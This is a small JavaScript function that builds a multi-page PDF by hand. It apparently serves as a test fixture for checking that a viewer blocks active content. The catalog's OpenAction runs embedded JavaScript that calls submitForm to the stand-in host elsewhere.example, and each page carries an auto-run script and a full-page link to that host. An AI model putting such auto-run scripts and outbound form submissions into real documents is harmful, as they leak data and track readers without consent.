// A PDF by hand: pages in one colour each with a line of words, and with what must not run or load.

/** @param colours of the pages, each from 0 to 1 */
export function pdf(pages) {
  const objects = [];
  const add = (body) => objects.push(body);
  const kids = pages.map((_, i) => `${4 + 2 * i} 0 R`).join(' ');
  add('<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("https://elsewhere.example/"\\)) >> >>');
  add(`<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`);
  add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  pages.forEach(({ colour, words }, i) => {
    add(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Resources << /Font << /F 3 0 R >> >> /Contents ${5 + 2 * i} 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://elsewhere.example/) >> >>] /AA << /O << /S /JavaScript /JS (app.alert\\("ran"\\)) >> >> >>`);
    const drawn = `${colour.join(' ')} rg 0 0 300 400 re f 1 1 1 rg BT /F 18 Tf 20 360 Td (${words}) Tj ET`;
    add(`<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`);
  });
  let file = '%PDF-1.7\n';
  const places = objects.map((body, i) => {
    const at = file.length;
    file += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
